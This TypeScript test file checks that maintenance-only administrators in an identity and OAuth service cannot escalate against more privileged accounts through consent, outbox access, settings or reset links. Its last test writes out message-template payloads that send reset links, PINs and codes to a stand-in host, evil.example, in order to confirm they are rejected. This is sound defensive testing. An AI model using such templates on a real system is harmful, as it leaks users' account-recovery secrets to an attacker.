// Attacks of administrators who hold `pages:maintenance` alone, on accounts that hold more: by messages, texts, links, factors and applications.
import assert from 'node:assert/strict';
import { after, before, beforeEach, describe, it } from 'node:test';
import { operator } from '../../src/app/first-start.ts';
import { configurationOf } from '../../src/configuration/index.ts';
import { isMessageTemplate } from '../../src/delivery/index.ts';
import { addSeconds } from '../../src/foundation/clock.ts';
import { createTestAccounts, type TestAccounts } from '../support/accounts.ts';
import { assertRefused } from '../support/answers.ts';
import {
  type Browser,
  begin,
  type Client,
  callAs,
  createClient,
  createVerifier,
  openBrowser,
  proceed,
  REDIRECT_URI,
  readAnswer,
  redeem,
  refresh,
  toRequest,
} from '../support/oauth.ts';
import { ISSUER, type SentMessage, type TestService, USER_PASSWORD } from '../support/service.ts';
import { type SetUp, setUps } from '../support/set-ups.ts';

const API = '/api/services/app';
const ORIGIN = 'https://app.example.com';
const RESET = 'Latchkey.Messages.PasswordResetLink';
const BASE = 'Latchkey.Links.BaseAddress';
const ALL = ['pages:maintenance', 'Pages.Users', 'users:resetPassword'];
const SECRETS = ['pin', 'link', 'code'];
/** Every role that holds more than a maintainer. */
const ABOVE = ['Administrator', 'UserManager', 'HelpDesk', 'All'];

for (const [name, start] of Object.entries(setUps)) {
  describe(`attacks of maintainers on ${name}`, () => {
    let setUp: SetUp;
    let here: TestService;
    let there: TestService;
    let admin: string;
    let maintainer: string;
    let people: TestAccounts;
    let count = 0;
    const fresh = (kind: string) => `${kind}${count}`;

    before(async () => {
      setUp = await start();
      ({ here, there } = setUp);
      admin = await here.admin();
      await here.set('Shesha.Otp', { resendCooldown: 0, dailyLimitPerRecipient: 1000 });
      await here.set('Latchkey.RateLimiting', { loginPermitLimit: 1000, otpPermitLimit: 1000 });
      const roles = {
        Maintainer: ['pages:maintenance'],
        HelpDesk: ['users:resetPassword'],
        Most: ['pages:maintenance', 'Pages.Users'],
        All: ALL,
        Clerk: ['Invoices.Read'],
      };
      for (const [role, grantedPermissions] of Object.entries(roles)) {
        await here.post(`${API}/Role/Create`, { token: admin, body: { name: role, grantedPermissions } });
      }
      people = await createTestAccounts(here);
      maintainer = await people.open(await people.add(['Maintainer']));
      await reload();
    });
    beforeEach(async () => {
      count += 1;
      await reload();
      await here.deliver();
      // The outbox lists the newest messages first.
      here.clock.advance(1);
    });
    after(() => setUp.close());

    /** Lets the other node read roles and settings at once. */
    const reload = () => Promise.all([there.service.settings.load(), there.service.roles.load()]);
    const update = (token: string, setting: string, value: unknown, appKey?: string) =>
      there.post(`${API}/Settings/UpdateValue`, { token, body: { name: setting, value, appKey } });
    const outbox = async (token: string, page: Record<string, number> = {}) =>
      (await there.get(`${API}/Outbox/GetAll`, { token, query: { maxResultCount: 100, ...page } })).result;
    async function create(kind: string, roleNames: string[], more: object = {}) {
      const userName = fresh(kind).toLowerCase();
      const emailAddress = `${userName}@example.org`;
      const verified = { emailAddress, isEmailConfirmed: true, password: null };
      const id = await here.createUser(userName, { ...verified, roleNames, ...more });
      return { id, userName, emailAddress };
    }
    async function sendLink(username: string): Promise<SentMessage> {
      assert.equal((await there.post(`${API}/User/SendEmailLink`, { body: { username } })).status, 200);
      const [mail] = await here.deliver();
      return mail ?? assert.fail(`no message for ${username}`);
    }

    const loadApplications = async () => {
      await here.service.applications.load();
      await there.service.applications.load();
    };
    /** Registers an application with a redirect URI of the caller's. */
    async function registerApplication(token: string, more: object = {}): Promise<Client> {
      const body = { name: 'Orders', kind: 'web', redirectUris: [REDIRECT_URI], resources: ['orders'], ...more };
      const { status, result } = await there.post(`${API}/Application/Create`, { token, body });
      assert.equal(status, 200);
      await loadApplications();
      return { id: result.id, clientId: result.clientId, secret: result.clientSecret };
    }
    async function updateApplication({ id }: Client, changes: object, token = maintainer) {
      const answer = await there.send('PUT', `${API}/Application/Update`, { token, body: { id, ...changes } });
      assert.equal(answer.status, 200, answer.text);
      await loadApplications();
      return answer.result;
    }
    /** A person with these roles, signed in, whose browser has been at an application that all trust. */
    async function enter(roleNames: string[]): Promise<{ browser: Browser; token: string; id: number }> {
      const account = await people.add(roleNames);
      const [token, browser, known] = [await people.open(account), openBrowser(here), await createClient(here)];
      await loadApplications();
      const request = await begin(browser, toRequest(known, createVerifier()));
      assert.equal((await proceed(browser, request, token)).status, 200);
      return { browser, token, id: account.id };
    }
    /** Follows a link to an application. @returns its answer in the redirect URI, and whether the person is asked instead. */
    async function follow({ browser }: { browser: Browser }, client: Client, more: Record<string, string> = {}) {
      const query = toRequest(client, createVerifier(), { scope: 'openid roles', ...more });
      const { headers } = await browser.send('GET', '/oauth/authorize', { query });
      const address = String(headers.location);
      if (address.startsWith(REDIRECT_URI)) return readAnswer(address).error ?? 'code';
      return 'page';
    }
    /** Follows a link, and agrees if asked. @returns the tokens. */
    async function agree({ browser, token }: { browser: Browser; token: string }, client: Client, scope: string) {
      const verifier = createVerifier();
      const id = await begin(browser, toRequest(client, verifier, { scope, resource: 'orders' }));
      const asked = await proceed(browser, id, token);
      assert.deepEqual(asked.result, { consentNeeded: { application: { name: 'Orders' }, scopes: scope.split(' ') } });
      const { redirectTo } = (await proceed(browser, id, token, { consent: true })).result as { redirectTo: string };
      const { status, body } = await redeem(there, client, readAnswer(redirectTo).code ?? '', verifier);
      assert.equal(status, 200);
      return body as { refresh_token: string };
    }

    it('their application asks accounts with permissions once, and nobody else, until it is trusted', async () => {
      const client = await registerApplication(maintainer);
      const shown = (await there.get(`${API}/Application/Get`, { token: maintainer, query: { id: client.id } })).result;
      assert.equal(shown.consent, 'none');
      assert.doesNotMatch(JSON.stringify([shown, await configurationOf(here.service).list()]), /untrusted/i);
      for (const role of [...ABOVE, 'Maintainer']) {
        const person = await enter([role]);
        assert.equal(await follow(person, client, { resource: 'orders' }), 'page', role);
        assert.equal(await follow(person, client, { prompt: 'none' }), 'consent_required', role);
      }
      const [boss, other, clerk] = [await enter(['Administrator']), await enter(['All']), await enter(['Clerk'])];
      assert.equal(await follow(clerk, client), 'code');
      await agree(boss, client, 'openid roles');
      assert.equal(await follow(boss, client, { resource: 'orders' }), 'code', 'once');
      assert.equal(await follow(boss, client, { scope: 'openid email' }), 'page', 'for each set of scopes');
      here.clock.advance(1);
      await updateApplication(client, { redirectUris: [REDIRECT_URI, `${REDIRECT_URI}2`] });
      assert.equal(await follow(boss, client), 'page', 'the consent was for what it was before this change');
      for (const isEnabled of [false, true]) await updateApplication(client, { isEnabled }, admin);
      assert.equal(await follow(other, client), 'page', 'who enables it has not seen the redirect URIs');
      await updateApplication(client, {}, admin);
      assert.equal(await follow(other, client), 'code', 'an administrator with all permissions has saved it');
      here.clock.advance(1);
      await updateApplication(client, {});
      assert.equal(await follow(other, client), 'code', 'nothing has changed');
      await updateApplication(client, { name: 'Other orders' });
      assert.equal(await follow(other, client), 'page');
      assert.equal(await follow(boss, client), 'page', 'the consent was for what it was before');
      await here.service.applications.update(client.id, { name: 'Orders' }, operator('test'));
      await loadApplications();
      assert.equal(await follow(other, client), 'code');
    });

    it('a change of theirs makes an application ask those who agreed before, and ends what it has of accounts with permissions', async () => {
      const client = await registerApplication(admin, { consent: 'ask', resources: ['orders'] });
      const [boss, clerk] = [await enter(['Administrator']), await enter(['Clerk'])];
      const { refresh_token } = await agree(boss, client, 'openid roles');
      const { refresh_token: kept } = await agree(clerk, client, 'openid roles');
      assert.equal(await follow(boss, client), 'code');
      here.clock.advance(1);
      await updateApplication(client, {
        redirectUris: [REDIRECT_URI, `${REDIRECT_URI}2`],
        resources: ['orders', 'pay'],
      });
      assert.equal(await follow(boss, client), 'page');
      const widened = await refresh(there, client, kept, { resource: 'pay' });
      assert.deepEqual([widened.status, widened.body.error], [400, 'invalid_target']);
      assert.equal((await refresh(there, client, kept)).status, 200);
      await agree(boss, client, 'openid');
      assert.equal(await follow(boss, client), 'page', 'what was agreed before is not agreed again with it');
      const ended = await refresh(there, client, refresh_token);
      assert.deepEqual([ended.status, ended.body.error], [400, 'invalid_grant'], 'only a part is agreed again');
    });

    it('what accounts agree to counts also when the clock was set back since the change', async () => {
      here.clock.set(300);
      const client = await registerApplication(maintainer);
      here.clock.set(-300);
      await agree(await enter(['Administrator']), client, 'openid roles');
    });

    it('a secret that they replace makes an application ask, until it is saved by others', async () => {
      const client = await registerApplication(admin);
      const boss = await enter(['Administrator']);
      const rotate = (token: string) =>
        there.post(`${API}/Application/RotateSecret`, { token, body: { id: client.id } });
      assert.equal((await rotate(admin)).status, 200);
      assert.equal(await follow(boss, client), 'code');
      assert.equal((await rotate(maintainer)).status, 200);
      assert.equal(await follow(boss, client), 'page');
      assert.equal((await rotate(admin)).status, 200);
      assert.equal(await follow(boss, client), 'page', 'who replaces the secret has not seen the redirect URIs');
      await updateApplication(client, {}, admin);
      assert.equal(await follow(boss, client), 'code');
    });

    it('what their application got of an account ends when the account gets permissions', async () => {
      const client = await registerApplication(maintainer, { kind: 'native' });
      const clerk = await enter(['Clerk']);
      const verifier = createVerifier();
      const query = toRequest(client, verifier, { scope: 'openid roles' });
      const { headers } = await clerk.browser.send('GET', '/oauth/authorize', { query });
      const given = await redeem(there, client, readAnswer(headers.location).code ?? '', verifier);
      const next = await refresh(there, client, given.body.refresh_token);
      assert.equal(next.status, 200);
      const body = { id: clerk.id, roleNames: ['UserManager'] };
      assert.equal((await here.send('PUT', `${API}/User/Update`, { token: admin, body })).status, 200);
      const refused = await refresh(there, client, next.body.refresh_token);
      assert.deepEqual([refused.status, refused.body.error], [400, 'invalid_grant']);
      assert.equal(await follow(clerk, client), 'page');
    });

    it('a device of their application asks like any other, and its grant goes on', async () => {
      const client = await registerApplication(maintainer, { kind: 'native' });
      const boss = await enter(['Administrator']);
      const begun = await callAs(here, client, '/oauth/device-authorization', { scope: 'openid roles' });
      const found = await boss.browser.send('GET', `${API}/Device/Get`, { query: { userCode: begun.body.user_code } });
      const { authorization } = found.result as { authorization: string };
      const asked = await proceed(boss.browser, authorization, boss.token);
      assert.ok((asked.result as { consentNeeded?: object }).consentNeeded);
      assert.equal((await proceed(boss.browser, authorization, boss.token, { consent: true })).status, 200);
      const grant_type = 'urn:ietf:params:oauth:grant-type:device_code';
      const form = { grant_type, device_code: begun.body.device_code };
      const given = await callAs(there, client, '/oauth/token', form);
      assert.equal(given.status, 200);
      assert.equal((await refresh(there, client, given.body.refresh_token)).status, 200);
    });

    it('the outbox shows no message of an account that holds more, whatever its roles became', async () => {
      const plain = await create('plain', ['Clerk']);
      const above = [];
      for (const role of ABOVE) above.push(await create(`of${role}`, [role]));
      const mine = await create('mine', ['Maintainer']);
      for (const { userName } of [plain, ...above, mine]) await sendLink(userName);
      const to = async (token: string) => (await outbox(token)).items.map((message) => message.to);
      const seen = await to(maintainer);
      assert.ok(seen.includes(plain.emailAddress) && seen.includes(mine.emailAddress));
      for (const { emailAddress } of above) {
        assert.ok(!seen.includes(emailAddress), emailAddress);
        assert.ok((await to(admin)).includes(emailAddress));
      }
      const { totalCount } = await outbox(maintainer);
      assert.equal(totalCount, seen.length, 'the total does not tell of them either');
      const paged = [];
      for (let skipCount = 0; skipCount < totalCount; skipCount += 1) {
        paged.push((await outbox(maintainer, { skipCount, maxResultCount: 1 })).items[0]?.to);
      }
      assert.deepEqual(paged, seen);

      const { items } = (await here.get(`${API}/Role/GetAll`, { token: admin, query: { keyword: 'Clerk' } })).result;
      const change = (grantedPermissions: string[]) =>
        here.send('PUT', `${API}/Role/Update`, { token: admin, body: { id: items[0]?.id, grantedPermissions } });
      await change(['Invoices.Read', 'Pages.Users']);
      assert.ok(!(await to(maintainer)).includes(plain.emailAddress), 'at once, on every node');
      await change(['Invoices.Read']);
      assert.ok((await to(maintainer)).includes(plain.emailAddress));
    });

    it('links, factors and the texts with a secret change with all permissions only', async () => {
      const { definitions } = there.service.settings;
      const guarded = definitions.filter(({ isGuarded }) => isGuarded);
      const holdsSecret = definitions.filter(isMessageTemplate).filter(({ schema }) => {
        const { 'x-placeholders': placeholders } = schema as unknown as { 'x-placeholders': object };
        return Object.keys(placeholders).some((one) => SECRETS.includes(one));
      });
      const named = [
        'Latchkey.Application',
        'Latchkey.Factors',
        'Latchkey.Factors.SecondFactor',
        'Latchkey.Links',
        'Latchkey.Links.SignIn',
        'Latchkey.OwnErasure',
        BASE,
      ];
      assert.deepEqual(
        guarded.map((one) => one.name).toSorted(),
        [...named, ...holdsSecret.map((one) => one.name)].toSorted(),
      );
      assert.equal(holdsSecret.length, 8);
      const accounts = await createTestAccounts(here);
      const most = await accounts.open(await accounts.add(['Most']));
      for (const token of [maintainer, most]) {
        for (const { name: setting, default: initial } of guarded) {
          const refused = await update(token, setting, initial);
          assertRefused(refused, 403, 'permission.denied', setting);
          assert.match(refused.error.details, /Pages\.Users, users:resetPassword/);
          const body = { name: setting };
          assertRefused(await there.post(`${API}/Settings/ResetValue`, { token, body }), 403, 'permission.denied');
        }
      }
      const all = await accounts.open(await accounts.add(['All']));
      for (const { name: setting, default: initial } of guarded) {
        assert.equal((await update(all, setting, initial)).status, 200, setting);
      }
      assert.equal((await update(maintainer, 'Latchkey.Messages.PasswordChanged', { subject: 'Changed' })).status, 200);
      const { result } = await there.get(`${API}/Settings/GetConfigurations`, { token: maintainer });
      assert.deepEqual(
        result.filter((one) => one.isGuarded).map((one) => one.name),
        guarded.map((one) => one.name),
      );
      await here.post(`${API}/Settings/ResetValue`, {
        token: admin,
        body: { name: 'Latchkey.Messages.PasswordChanged' },
      });
    });

    it('none of many concurrent changes is made after the loss of one permission was answered', async () => {
      const accounts = await createTestAccounts(here);
      const body = { name: fresh('Loser'), grantedPermissions: ALL };
      const { id } = (await here.post(`${API}/Role/Create`, { token: admin, body })).result;
      const token = await accounts.open(await accounts.add([body.name]));
      const countMade = async () =>
        (await here.get(`${API}/Settings/GetHistory`, { token: admin, query: { name: RESET } })).result.items.length;
      const changes = Array.from({ length: 20 }, (_, turn) => update(token, RESET, { subject: `Subject ${turn}` }));
      const less = { id, grantedPermissions: ['pages:maintenance', 'Pages.Users'] };
      assert.equal((await here.send('PUT', `${API}/Role/Update`, { token: admin, body: less })).status, 200);
      const made = await countMade();
      const answers = await Promise.all(changes);
      assert.equal(await countMade(), made);
      for (const answer of answers) if (answer.status !== 200) assertRefused(answer, 403, 'permission.denied');
      assertRefused(await update(token, RESET, { subject: 'Later' }), 403, 'permission.denied');
      await here.post(`${API}/Settings/ResetValue`, { token: admin, body: { name: RESET } });
    });

    it('a front end with guarded values is neither renamed nor deleted', async () => {
      const register = async (appKey: string) =>
        (await here.post(`${API}/FrontEndApp/Create`, { token: admin, body: { appKey, name: appKey } })).result;
      const [shop, plain] = [await register(fresh('shop')), await register(fresh('bare'))];
      await here.set('Latchkey.Factors.SecondFactor', 'required', shop.appKey);
      const rename = (frontEnd: typeof shop, appKey: string, token = maintainer) =>
        there.send('PUT', `${API}/FrontEndApp/Update`, { token, body: { ...frontEnd, appKey } });
      const remove = ({ id }: typeof shop, token = maintainer) =>
        there.send('DELETE', `${API}/FrontEndApp/Delete`, { token, query: { id } });
      assertRefused(await rename(shop, fresh('store')), 403, 'permission.denied');
      assertRefused(await remove(shop), 403, 'permission.denied');
      assert.equal((await rename(shop, shop.appKey)).status, 200);
      assert.equal((await rename(plain, fresh('renamed'))).status, 200);
      assert.equal((await remove(plain)).status, 200);
      assert.equal((await rename(shop, fresh('store'), admin)).status, 200);
      assert.equal((await remove(shop, admin)).status, 200);
    });

    it('a front end is not deleted with a guarded value that comes while the change waits for another one', async () => {
      const { database, settings } = there.service;
      const row = { name: 'Latchkey.Factors.SecondFactor', value: '"required"', changed_at: there.clock.now() };
      const remove = database.transaction((tx) => {
        const announce = async (topic: string) => {
          await tx.announce(topic);
          // As another change left it, whose end the announcement waited for.
          await tx.sql
            .insertInto('setting_value')
            .values({ ...row, app_key: fresh('late'), changed_by: null })
            .execute();
        };
        return settings.moveFrontEnd({ ...tx, announce }, fresh('late'), null, ['pages:maintenance']);
      });
      await assert.rejects(remove, { reason: 'permission.denied' });
    });

    it('accounts with permissions get the built-in text of every message, and the brand of Default UI', async () => {
      const { service, clock } = here;
      const templates = service.settings.definitions.filter(isMessageTemplate);
      /** Placeholders that some templates must hold. */
      const needed = ['pin', 'link', 'code', 'change'];
      for (const template of templates) {
        const { 'x-placeholders': known } = template.schema as unknown as { 'x-placeholders': Record<string, string> };
        const all = Object.keys(known)
          .filter((one) => needed.includes(one))
          .map((one) => `{{${one}}}`)
          .join(' ');
        const own = Object.keys(template.default).map((member) => [member, `Own text {{application}} ${all}`]);
        await here.set(template.name, Object.fromEntries(own));
      }
      const body = { appKey: fresh('portal'), name: 'Portal' };
      await here.post(`${API}/FrontEndApp/Create`, { token: admin, body });
      await here.set('Latchkey.Brand', { name: 'Portal brand' }, body.appKey);
      const secrets = { pin: '482913', link: `${ISSUER}/reset-password#code=x`, code: 'x' };
      const send = async (roleNames: string[]) => {
        clock.advance(1);
        for (const template of templates) {
          for (const means of ['sms', 'email'] as const) {
            if (!((means === 'sms' ? 'sms' : 'text') in template.default)) continue;
            const request = { template, medium: means, to: means === 'sms' ? '+27821234567' : 'a@example.org' };
            const values = { ...secrets, name: 'Ann', username: 'ann', minutes: '5', change: 'All.', left: '3' };
            const expiresAt = addSeconds(clock.now(), 300);
            await service.database.transaction((tx) =>
              service.messages.queue(tx, {
                ...{ ...request, account: { id: 1, roleNames }, values, frontEnd: body.appKey, expiresAt },
              }),
            );
          }
        }
        return here.deliver();
      };
      const ordinary = await send(['Clerk']);
      assert.ok(ordinary.length > templates.length);
      for (const { text } of ordinary) assert.match(text, /^Own text Portal brand/);
      for (const role of ['HelpDesk', 'Maintainer']) {
        const messages = await send([role]);
        assert.equal(messages.length, ordinary.length);
        for (const { text, subject } of messages) {
          assert.doesNotMatch(`${subject}${text}`, /Own text|Portal brand/);
          assert.match(text, /Latchkey/);
        }
      }
      for (const template of templates) {
        await here.post(`${API}/Settings/ResetValue`, { token: admin, body: { name: template.name } });
      }
    });

    it('the links of accounts with permissions lead to the public URL, wherever those of Default UI lead', async () => {
      await here.set('Latchkey.Links', { allowedOrigins: [ORIGIN] });
      await here.set(BASE, ORIGIN, 'default-app');
      await here.set(RESET, { text: `${ORIGIN}/own#{{code}} {{pin}}` });
      await reload();
      const plain = await create('plain', ['Clerk']);
      assert.match((await sendLink(plain.userName)).text, /^https:\/\/app\.example\.com\/own#/);
      const roles = [...ABOVE, 'Maintainer'];
      for (const role of roles) {
        const { userName } = await create(`of${role}`, [role]);
        const { text } = await sendLink(userName);
        assert.ok(text.includes(`${ISSUER}/reset-password#username=${userName}&code=`), text);
        assert.doesNotMatch(text, /app\.example\.com/);
      }
      const invited = await create('invited', ['UserManager']);
      await there.post(`${API}/User/SendInvitation`, { token: admin, body: { userId: invited.id } });
      const [invitation] = await here.deliver();
      assert.ok(invitation?.text.includes(`${ISSUER}/reset-password#`), invitation?.text ?? 'none');
      const { userName } = await create('boss', ['Administrator'], { password: USER_PASSWORD });
      await here.set('Latchkey.Messages.VerificationPin', { text: 'Own text {{pin}}' });
      await reload();
      const token = await there.signIn(userName);
      const body = { currentPassword: USER_PASSWORD, emailAddress: `${fresh('other')}@example.org` };
      await there.post(`${API}/User/ChangeMyAddress`, { token, body });
      const [verification] = await here.deliver();
      assert.match(verification?.text ?? '', /your code to verify this e-mail address/);
      for (const setting of [RESET, 'Latchkey.Messages.VerificationPin', 'Latchkey.Links']) {
        await here.post(`${API}/Settings/ResetValue`, { token: admin, body: { name: setting } });
      }
      await here.post(`${API}/Settings/ResetValue`, { token: admin, body: { name: BASE, appKey: 'default-app' } });
    });

    it('no text with a secret in a tag or another address is saved, nor sent if it was', async () => {
      const evil = [
        { html: '<img src="https://evil.example/?{{link}}">{{pin}}' },
        { html: '<p title="{{code}}">{{pin}}</p>{{link}}' },
        { html: '<a href="https://evil.example/?k={{code}}">Go</a> {{pin}}' },
        { html: '<a href="{{link}}">Go</a> <img src=\'https://evil.example/?{{pin}}\'>' },
        { text: 'https://evil.example/?k={{code}} {{pin}}' },
        { text: 'evil.example/{{pin}} {{link}}' },
        { text: `${ORIGIN}/#{{code}} {{pin}}` },
      ];
      const { sql } = here.service.database;
      const plain = await create('plain', []);
      const expected = (await sendLink(plain.userName)).text;
      for (const value of evil) {
        const [member = ''] = Object.keys(value);
        const refused = await update(admin, RESET, value);
        assertRefused(refused, 400, 'request.invalid', value);
        assert.deepEqual(refused.error.validationErrors?.[0]?.members, [member]);
        const { default: words } = here.service.settings.find(RESET);
        const stored = JSON.stringify({ ...Object(words), ...value });
        const row = { name: RESET, app_key: '', value: stored, changed_at: here.clock.now(), changed_by: null };
        await sql.insertInto('setting_value').values(row).execute();
        await here.service.settings.load();
        await reload();
        const mail = await sendLink(plain.userName);
        const { items } = await outbox(admin);
        const html = items.find(({ id }) => id === mail.id)?.html ?? '';
        assert.doesNotMatch(mail.text + html, /evil\.example|app\.example\.com|title=/);
        assert.equal(
          mail.text.replace(/code=\S+/, '').replace(/\d{6}/, ''),
          expected.replace(/code=\S+/, '').replace(/\d{6}/, ''),
        );
        await sql.deleteFrom('setting_value').where('name', '=', RESET).execute();
      }
      await here.set('Latchkey.Links', { allowedOrigins: [ORIGIN] });
      await reload();
      const own = { text: `${ORIGIN}/#{{code}} {{pin}}`, html: `<a href="${ORIGIN}/#{{code}}">Go</a> {{pin}}` };
      assert.equal((await update(admin, RESET, own)).status, 200);
      assert.match((await sendLink(plain.userName)).text, /^https:\/\/app\.example\.com\/#/);
      await here.set('Latchkey.Links', { allowedOrigins: [] });
      await reload();
      assert.ok((await sendLink(plain.userName)).text.includes(`${ISSUER}/reset-password#`), 'a withdrawn origin');
    });
  });
}
